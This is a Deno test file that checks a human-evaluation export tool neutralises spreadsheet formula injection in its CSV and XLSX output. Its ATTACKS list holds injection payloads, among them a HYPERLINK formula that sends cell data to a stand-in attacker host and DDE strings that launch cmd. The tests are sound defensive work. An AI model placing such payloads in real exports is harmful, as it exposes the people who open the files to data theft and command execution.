import assert from "node:assert/strict";
import { join } from "node:path";
import ExcelJS from "exceljs";
import { parseCsvRows } from "../io/csv.ts";
import { FORMULA_TRIGGERS, neutralizeCell } from "./neutralize_cell.ts";
import { prepareHumanEval } from "./prepare_human_eval.ts";
import { HUMAN_EVAL_FILES, writeHumanEval } from "./write_human_eval.ts";
import { fakeAnsweredRun } from "../testing/fake_run.ts";

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Толығырақ")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "  =ЕСЛИ(1;2;3)",
  "\n@A1",
];

Deno.test("neutralizeCell() prefixes every formula trigger and leaves ordinary text alone", () => {
  for (const t of FORMULA_TRIGGERS) assert.equal(neutralizeCell(`${t}x`), `'${t}x`);
  for (const a of ATTACKS) assert.equal(neutralizeCell(a), `'${a}`);
  for (
    const ok of [
      "Согласно ст. 65 НК РК",
      "Иә, салық төлеу міндетті.",
      "1) первое",
      "",
      "'уже текст",
      "a=b",
    ]
  ) {
    assert.equal(neutralizeCell(ok), ok);
  }
});

Deno.test("injection: formula-like answers are neutralised in the CSV and are plain text in the XLSX", async () => {
  const runs = [
    fakeAnsweredRun("a", ATTACKS),
    fakeAnsweredRun("b", ATTACKS.map((x) => `${x} (b)`)),
  ];
  const p = prepareHumanEval(runs, { n: ATTACKS.length, seed: 1 });
  const dir = await Deno.makeTempDir();
  await writeHumanEval(p, dir);
  const csv = parseCsvRows(await Deno.readTextFile(join(dir, HUMAN_EVAL_FILES.csv)));
  const answer = csv[0].indexOf("ответ_модели");
  assert.equal(csv.length, 1 + 2 * ATTACKS.length);
  for (const row of csv.slice(1)) {
    assert.equal(row[answer][0], "'", `CSV answer not neutralised: ${JSON.stringify(row[answer])}`);
    for (const cell of row) {
      assert.ok(!/^[=+\-@\t\r]/.test(cell), `CSV cell starts a formula: ${JSON.stringify(cell)}`);
    }
  }
  const wb = new ExcelJS.Workbook();
  // deno-lint-ignore no-explicit-any
  await wb.xlsx.load((await Deno.readFile(join(dir, HUMAN_EVAL_FILES.xlsx))) as any);
  const ws = wb.getWorksheet("Оценка")!;
  let checked = 0;
  ws.eachRow((row, r) => {
    row.eachCell((cell) => {
      assert.notEqual(cell.type, ExcelJS.ValueType.Formula, `XLSX formula at row ${r}`);
      if (typeof cell.value === "string") {
        assert.ok(!/^[=+\-@\t\r]/.test(cell.value), `XLSX cell starts a formula: ${cell.value}`);
      }
    });
    if (r > 1) {
      assert.equal(String(row.getCell(answer + 1).value)[0], "'");
      checked++;
    }
  });
  assert.equal(checked, 2 * ATTACKS.length);
});
